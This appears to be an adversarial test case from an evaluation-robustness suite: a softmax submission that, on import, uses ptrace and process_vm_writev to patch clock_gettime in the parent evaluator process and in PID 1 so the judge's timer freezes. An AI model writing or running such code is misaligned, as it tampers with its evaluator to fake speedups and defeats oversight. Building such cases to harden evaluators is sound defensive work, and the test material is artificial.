"""The evaluator's process is seized with ptrace, or written through process_vm_writev.

family: C6
problem: softmax
expect: correct or rejected
speedup: none
twin: c6_ctypes_libm.py
source: robust-evaluation C6
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, PTRACE_DETACH, PTRACE_POKEDATA = 16, 17, 5


class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def clock_address(pid):
    own = ctypes.cast(libc.clock_gettime, ctypes.c_void_p).value
    with open("/proc/self/maps") as file:
        own_base = min(int(line.split("-")[0], 16) for line in file if "/libc.so" in line)
    with open(f"/proc/{pid}/maps") as file:
        base = min(int(line.split("-")[0], 16) for line in file if "/libc.so" in line)
    return base + own - own_base


def attack(pid):
    if os.getuid() == 0:
        return  # outside the sandbox this would break the machine, not the judge
    try:
        address = clock_address(pid)
    except (OSError, ValueError):
        address = 0x400000
    code = ctypes.create_string_buffer(b"\x31\xc0\xc3")  # xor eax, eax; ret: time stands still
    local, remote = Span(ctypes.addressof(code), 3), Span(address, 3)
    libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    if libc.ptrace(PTRACE_ATTACH, pid, 0, 0) == 0:
        libc.ptrace(PTRACE_POKEDATA, pid, ctypes.c_void_p(address), ctypes.c_void_p(0xC3C031))
        libc.ptrace(PTRACE_DETACH, pid, 0, 0)


for parent in {os.getppid(), 1} - {0, os.getpid()}:
    attack(parent)


def softmax(x):
    e = (x - x.amax(-1, keepdim=True)).exp()
    return e / e.sum(-1, keepdim=True)
